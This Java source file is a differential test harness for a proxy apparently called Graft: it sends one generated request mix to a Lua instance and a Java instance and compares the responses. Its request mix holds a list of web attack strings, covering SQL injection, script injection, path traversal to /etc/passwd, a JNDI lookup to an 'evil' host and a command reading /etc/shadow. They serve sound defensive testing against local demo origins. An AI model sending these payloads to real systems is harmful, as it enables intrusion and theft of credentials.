package dev.graft.host.parity;

import static java.util.Objects.requireNonNull;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.graft.host.GraftServer;
import dev.graft.host.config.ConfigLoader;
import dev.graft.host.config.ConfigResult;
import dev.graft.host.config.GraftConfig;
import dev.graft.host.config.Rollout;
import dev.graft.host.demo.DemoConfig;
import dev.graft.host.demo.DemoOrigin;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.regex.Pattern;

/**
 * The end-to-end differential run ({@code graft dual-run}): two Graft instances in front of the
 * same demo origins, one all-Lua and one with the shipped rollout (Java modules), get the same
 * requests; each pair of responses is compared, and since the echo origin answers with the
 * request it received, so is each pair of requests the origin got.
 *
 * <p>Same state on both sides: each instance has its own shared dicts, which start empty, and
 * both read one clock standing still, so rate-limit windows and {@code ngx.now()} agree.
 * Requests are spread over lanes, one keep-alive connection per lane and side, sent in lane
 * order to both; every request a rate limit counts (the shop's {@code /api} rule, keyed by
 * client address, which is 127.0.0.1 for every lane) goes through lane 0, so each side counts
 * them in the same order. The fields that must differ are named in {@link #VOLATILE_HEADERS}
 * and {@link #REQUEST_ID}.
 */
public final class DualRun {

    /** Response headers that differ by nature between two instances: not compared. */
    public static final List<String> VOLATILE_HEADERS = List.of("date", "x-request-id");
    /** Request ids (32 hex digits) in bodies and headers: compared as {@code <request-id>}. */
    public static final Pattern REQUEST_ID = Pattern.compile("\\b[0-9a-f]{32}\\b");
    /** $request_time in echoed or logged JSON: real elapsed time. */
    private static final Pattern REQUEST_TIME = Pattern.compile("\"request_time\":[0-9.eE+-]+");

    private static final long CLOCK_MILLIS = 1_780_000_000_000L;

    private DualRun() {}

    /**
     * @param shipped   the shipped config (demo customers, pipeline, rollout)
     * @param requests  how many requests to send to each side
     * @param inFlight  lanes: requests in flight per side
     * @param seed      the request mix's seed
     * @param traffic   a recorded traffic file to send instead of the generated mix
     */
    public record Options(Path shipped, int requests, int inFlight, long seed, Optional<Path> traffic) {
        public Options {
            requireNonNull(shipped, "shipped");
            if (requests < 1 || inFlight < 1) {
                throw new IllegalArgumentException("requests, inFlight: " + requests + ", " + inFlight
                        + " (expected: at least 1 each)");
            }
            requireNonNull(traffic, "traffic");
        }
    }

    /**
     * @param requests  requests sent to each side
     * @param differing requests whose responses differ
     * @param examples  the first differences, described
     * @param statuses  how many responses had each status (Lua side)
     * @param millis    the run's wall time
     */
    public record Result(int requests, int differing, List<String> examples, Map<Integer, Integer> statuses,
                         long millis) {
        public boolean passed() {
            return differing == 0;
        }
    }

    /** Starts the origins and both instances, fires, compares, stops everything. */
    public static Result run(Options o, Consumer<String> progress) throws IOException, InterruptedException {
        long t0 = System.currentTimeMillis();
        // the stages' own log lines (a WARN per blocked request) would drown the run's output
        ch.qos.logback.classic.Logger stageLog = (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger("graft.lua");
        ch.qos.logback.classic.Level before = stageLog.getLevel();
        stageLog.setLevel(ch.qos.logback.classic.Level.OFF);
        List<DemoOrigin> origins = new ArrayList<>();
        GraftServer lua = null;
        GraftServer java = null;
        try {
            Map<String, InetSocketAddress> addresses = new LinkedHashMap<>();
            for (String name : List.of("origin-a", "origin-b", "bucket")) {
                DemoOrigin origin = name.equals("bucket") ? DemoOrigin.startBucket(name, "127.0.0.1", 0)
                        : DemoOrigin.startEcho(name, "127.0.0.1", 0);
                origins.add(origin);
                addresses.put(name, origin.address());
            }
            JsonNode tree = new JsonMapper().readTree(o.shipped().toFile());
            ObjectNode raw = DemoConfig.pointAt((ObjectNode) tree, addresses);
            GraftConfig shipped = switch (ConfigLoader.check(raw, o.shipped().toAbsolutePath().getParent())) {
                case ConfigResult.Valid v -> v.config();
                case ConfigResult.Invalid i -> throw new IllegalStateException(o.shipped() + ": " + i.errors());
            };
            Clock clock = Clock.fixed(Instant.ofEpochMilli(CLOCK_MILLIS), ZoneOffset.UTC);
            lua = GraftServer.start(shipped.withRollout(Rollout.ALL_LUA), GraftServer.Options.ephemeral().withClock(clock));
            java = GraftServer.start(shipped, GraftServer.Options.ephemeral().withClock(clock));
            progress.accept("dual-run: all-Lua on " + lua.proxyAddress() + ", Java modules "
                    + shipped.rollout().javaModules() + " on " + java.proxyAddress() + ", origins " + addresses);
            List<ParityRequest> requests = o.traffic().isPresent() ? recorded(o.traffic().get(), o.requests())
                    : mix(shipped, o.requests(), o.seed());
            return fire(requests, o.inFlight(), lua.proxyAddress(), java.proxyAddress(), progress, t0);
        } finally {
            if (lua != null) {
                lua.close();
            }
            if (java != null) {
                java.close();
            }
            origins.forEach(DemoOrigin::close);
            stageLog.setLevel(before);
        }
    }

    private static List<ParityRequest> recorded(Path file, int max) throws IOException {
        List<ParityRequest> out = new ArrayList<>();
        for (Sequence s : TrafficFile.read(file).requests()) {
            out.addAll(s.requests());
        }
        return out.size() > max ? out.subList(0, max) : out;
    }

    /** The request mix: normal traffic, attacks, redirects, auth failures, rate-limit bursts, large bodies. */
    static List<ParityRequest> mix(GraftConfig config, int n, long seed) {
        SplittableRandom r = new SplittableRandom(seed);
        List<ParityRequest> out = new ArrayList<>(n);
        String[] pages = {"/", "/index.html", "/products?id=#", "/static/app.js", "/search?q=shoes&page=#",
                "/a/./b/../c", "//double//slash", "/%2e%2e/etc", "/caf%C3%A9", "/?a=1&a=2&b="};
        String[] attacks = {"/search?q=1%27%20OR%20%271%27%3D%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "/../../etc/passwd", "/download?file=..%2F..%2Fetc%2Fpasswd", "/?x=%24%7Bjndi%3Aldap%3A//evil/a%7D",
                "/wp-admin/admin.php?cmd=cat%20/etc/shadow", "/?id=1%20UNION%20SELECT%20password%20FROM%20users"};
        String[] redirects = {"/old", "/old?x=1", "/blog/post-#", "/blog/", "/OLD"};
        for (int i = 0; i < n; i++) {
            int k = r.nextInt(100);
            String host;
            String method = "GET";
            String target;
            List<ParityRequest.Header> headers = new ArrayList<>();
            Optional<String> body = Optional.empty();
            if (k < 40) {
                host = List.of("shop.test", "www.shop.test", "media.test", "legacy.test").get(r.nextInt(4));
                target = pages[r.nextInt(pages.length)].replace("#", Integer.toString(r.nextInt(1000)));
                method = List.of("GET", "GET", "GET", "HEAD", "POST", "OPTIONS").get(r.nextInt(6));
                if (method.equals("POST")) {
                    body = Optional.of("a=" + r.nextInt(1000) + "&b=two");
                    headers.add(new ParityRequest.Header("Content-Type", "application/x-www-form-urlencoded"));
                }
                if (r.nextInt(4) == 0) {
                    headers.add(new ParityRequest.Header("Origin", r.nextBoolean() ? "https://shop.test" : "https://evil.test"));
                }
            } else if (k < 55) {
                host = List.of("shop.test", "media.test", "legacy.test").get(r.nextInt(3));
                target = attacks[r.nextInt(attacks.length)];
                headers.add(new ParityRequest.Header("User-Agent", r.nextBoolean() ? "sqlmap/1.7" : "curl/8.0"));
            } else if (k < 65) {
                host = "shop.test";
                target = redirects[r.nextInt(redirects.length)].replace("#", Integer.toString(r.nextInt(100)));
            } else if (k < 75) {
                host = "media.test";
                target = "/private/doc-" + r.nextInt(100);
                switch (r.nextInt(4)) {
                    case 0 -> { }
                    case 1 -> headers.add(new ParityRequest.Header("X-Api-Key", "wrong-key"));
                    case 2 -> headers.add(new ParityRequest.Header("X-Api-Key", "media-demo-key"));
                    default -> {
                        headers.add(new ParityRequest.Header("X-Api-Key", "media-demo-key"));
                        headers.add(new ParityRequest.Header("X-Api-Key", "media-demo-key"));
                    }
                }
            } else if (k < 88) {
                host = "shop.test";
                target = "/api/items/" + r.nextInt(50) + (r.nextBoolean() ? "?page=" + r.nextInt(5) : "");
            } else if (k < 94) {
                host = "legacy.test";
                target = "/account";
                headers.add(new ParityRequest.Header("X-Forwarded-For", List.of("192.0.2.7", "203.0.113.9",
                        "2001:db8:bad::1", "198.51.100.1, 192.0.2.9").get(r.nextInt(4))));
            } else {
                host = List.of("shop.test", "media.test", "legacy.test").get(r.nextInt(3));
                method = r.nextBoolean() ? "POST" : "PUT";
                target = "/upload";
                int size = r.nextInt(6) == 0 ? (1 << 20) + r.nextInt(4096) : 10_000 + r.nextInt(400_000);
                StringBuilder b = new StringBuilder(size);
                while (b.length() < size) {
                    b.append(r.nextInt(20) == 0 ? "' OR 1=1 -- " : "lorem ipsum dolor sit amet ");
                }
                body = Optional.of(b.substring(0, size));
                headers.add(new ParityRequest.Header("Content-Type", "text/plain"));
            }
            headers.add(0, new ParityRequest.Header("Host", host));
            out.add(new ParityRequest(host, method, target, headers, body, "127.0.0.1"));
        }
        return out;
    }

    /** Lane 0 for whatever a rate limit counts (one key, one order); the others round-robin. */
    private static int lane(ParityRequest r, int index, int lanes) {
        String host = r.headers().isEmpty() ? "" : r.headers().get(0).value().toLowerCase(Locale.ROOT);
        boolean limited = host.contains("shop.test") && r.target().toLowerCase(Locale.ROOT).contains("api");
        return limited || lanes == 1 ? 0 : 1 + index % (lanes - 1);
    }

    private static Result fire(List<ParityRequest> requests, int lanes, InetSocketAddress luaAt,
            InetSocketAddress javaAt, Consumer<String> progress, long t0) throws InterruptedException {
        List<List<Integer>> byLane = new ArrayList<>();
        for (int i = 0; i < lanes; i++) {
            byLane.add(new ArrayList<>());
        }
        for (int i = 0; i < requests.size(); i++) {
            byLane.get(lane(requests.get(i), i, lanes)).add(i);
        }
        String[] lua = new String[requests.size()];
        String[] java = new String[requests.size()];
        int[] status = new int[requests.size()];
        AtomicInteger done = new AtomicInteger();
        int step = Math.max(1000, requests.size() / 5);
        try (ExecutorService pool = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Future<?>> futures = new ArrayList<>();
            for (List<Integer> lane : byLane) {
                futures.add(pool.submit(() -> {
                    try (WireClient l = new WireClient(luaAt); WireClient j = new WireClient(javaAt)) {
                        for (int i : lane) {
                            WireClient.Response lr = exchange(l, requests.get(i));
                            WireClient.Response jr = exchange(j, requests.get(i));
                            status[i] = lr == null ? 0 : lr.status();
                            lua[i] = describe(lr);
                            java[i] = describe(jr);
                            int d = done.incrementAndGet();
                            if (d % step == 0) {
                                progress.accept("dual-run: " + d + "/" + requests.size() + " requests");
                            }
                        }
                    }
                    return null;
                }));
            }
            for (Future<?> f : futures) {
                try {
                    f.get();
                } catch (java.util.concurrent.ExecutionException e) {
                    throw new IllegalStateException("dual-run: a lane failed: " + e.getCause(), e.getCause());
                }
            }
        }
        int differing = 0;
        List<String> examples = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        for (int i = 0; i < requests.size(); i++) {
            statuses.merge(status[i], 1, Integer::sum);
            if (!lua[i].equals(java[i])) {
                differing++;
                if (examples.size() < 10) {
                    examples.add("request " + i + ": " + requests.get(i).describe() + "\n  " + firstDifference(lua[i], java[i]));
                }
            }
        }
        return new Result(requests.size(), differing, examples, statuses, System.currentTimeMillis() - t0);
    }

    private static WireClient.Response exchange(WireClient c, ParityRequest r) {
        try {
            return c.send(r);
        } catch (IOException | RuntimeException e) {
            c.close();
            return null;
        }
    }

    /** A response as compared: status, headers but the volatile ones, body; request ids blanked. */
    static String describe(WireClient.Response r) {
        if (r == null) {
            return "<no response>";
        }
        StringBuilder sb = new StringBuilder();
        sb.append("status: ").append(r.status()).append('\n');
        List<String> headers = new ArrayList<>();
        for (String[] h : r.headers()) {
            String name = h[0].toLowerCase(Locale.ROOT);
            if (!VOLATILE_HEADERS.contains(name)) {
                headers.add(name + ": " + h[1]);
            }
        }
        headers.sort(null);
        headers.forEach(h -> sb.append(h).append('\n'));
        String body = new String(r.body(), StandardCharsets.ISO_8859_1);
        body = REQUEST_TIME.matcher(REQUEST_ID.matcher(body).replaceAll("<request-id>")).replaceAll("\"request_time\":<t>");
        sb.append('\n').append(body);
        return REQUEST_ID.matcher(sb).replaceAll("<request-id>");
    }

    private static String firstDifference(String a, String b) {
        String[] la = a.split("\n", -1);
        String[] lb = b.split("\n", -1);
        for (int i = 0; i < Math.max(la.length, lb.length); i++) {
            String x = i < la.length ? la[i] : "<absent>";
            String y = i < lb.length ? lb[i] : "<absent>";
            if (!x.equals(y)) {
                return "lua:  " + ParityRequest.abbreviate(x, 300) + "\n  java: " + ParityRequest.abbreviate(y, 300);
            }
        }
        return "(same lines)";
    }
}
